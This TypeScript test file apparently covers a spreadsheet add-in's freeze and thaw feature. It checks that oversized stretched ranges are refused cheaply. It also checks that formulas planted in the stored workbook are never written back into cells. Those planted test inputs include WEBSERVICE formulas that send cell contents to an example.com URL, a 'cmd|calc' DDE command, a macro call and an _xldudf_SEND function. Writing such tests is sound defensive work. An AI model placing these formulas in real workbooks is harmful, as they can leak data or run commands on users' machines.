import { createFrozenStore } from '../../src/workbook/frozen-store';
import type { FrozenCells } from '../../src/spreadsheet/frozen-cells';
import { freeze } from '../../src/freeze/freezing';
import { thaw } from '../../src/freeze/thawing';
import type { SheetArea } from '../../src/spreadsheet/sheet';
import { createFakeWorkbookParts } from '../spreadsheet/fake-workbook-parts';
import { createFakeGrid } from './fake-grid';

describe('names that somebody has stretched', () => {
  it.each([
    ['rows', { rows: 1_048_576, columns: 1 }],
    ['columns', { rows: 3, columns: 16_384 }],
    ['rows and columns', { rows: 1_048_576, columns: 100 }],
  ])('over %s are apart before a cell of them is read', async (_, size) => {
    const { grid, parts, stretch, cellsRead } = await frozenColumn();
    await stretch('A', size);
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 3 });
    expect(cellsRead()).toBeLessThan(10_000);
    expect(grid.read('C1:C3')).toEqual([[1], [2], [3]]);
  });

  it('together over more than was ever frozen are not read at all', async () => {
    const { parts, stretch, cellsRead } = await frozenColumn();
    const rows = 1_048_576;
    for (const column of ['A', 'B', 'C']) await stretch(column, { rows, columns: 1 });
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 3 });
    for (const column of ['A', 'B']) await stretch(column, { rows: 3, columns: 1 });
    await stretch('C', { rows, columns: 100 });
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ kind: 'failed' });
    expect(cellsRead()).toBeLessThan(10_000);
  });
});

async function frozenColumn() {
  const grid = createFakeGrid();
  for (const row of [1, 2, 3]) {
    grid.set(`A${row}`, [[row, row, `=LOCATTR(A${row},B${row},"x")`]]);
    grid.show(`C${row}`, row);
  }
  const store = createFrozenStore(createFakeWorkbookParts().parts);
  let read = 0;
  const cells: FrozenCells = {
    ...grid.cells,
    read(areas) {
      for (const { rows, columns } of areas) read += rows * columns;
      return grid.cells.read(areas);
    },
  };
  const parts = { cells, store, now: () => 1, turn: () => Promise.resolve() };
  await freeze(undefined, parts);
  read = 0;
  return {
    grid,
    parts,
    cellsRead: () => read,
    stretch(column: string, size: Pick<SheetArea, 'rows' | 'columns'>) {
      const at = 'ABC'.indexOf(column);
      const anchors = [...grid.names()].flatMap(([name, area]) =>
        area?.column === at ? [{ name, area: { ...area, ...size } }] : [],
      );
      return grid.cells.anchor(anchors);
    },
  };
}

describe('a workbook that somebody has prepared', () => {
  it.each([
    '=WEBSERVICE(""https://example.com/?""&A1)&LOCATTR(1,2,""x"")',
    '=HYPERLINK(""https://example.com"",""Click"")',
    '=1+1',
    "=LOCATTR('C:\\\\[Book.xlsx]S'!A1,2,3)",
    '=LOCATTR(cmd|calc,2,3)',
    '=LOCATTR(1,2,Book!Macro(1))',
    '=LOCATTR(1,_xldudf_SEND(A1),3)',
    `='a""b'!A1&WEBSERVICE(""https://example.com/?""&B2)&LOCATTR(1,2,""x"")`,
    '=CONCAT(MAP(A1:A9,WEBSERVICE))&LOCATTR(1,2,""x"")',
  ])('has no %s typed into its cells', async (evil) => {
    const grid = createFakeGrid(['Sheet1', 'a"b']);
    grid.set('A1', [['=LOCATTR(1,2,"x")']]);
    grid.show('A1', 5);
    const held = createFakeWorkbookParts();
    const store = createFrozenStore(held.parts);
    const parts = { cells: grid.cells, store, now: () => 1, turn: () => Promise.resolve() };
    expect(await freeze(undefined, parts)).toMatchObject({ cells: 1 });
    const [xml = ''] = held.held;
    const planted = xml.replace(
      '=LOCATTR(1,2,\\"x\\")',
      evil.replaceAll('""', '\\"').replaceAll('&', '&amp;'),
    );
    expect(planted).not.toBe(xml);
    held.held.splice(0, 1, planted);
    expect(await thaw({ kind: 'all' }, parts)).toMatchObject({ cells: 0, left: 1, problems: [] });
    expect(grid.read('A1')).toEqual([[5]]);
  });
});
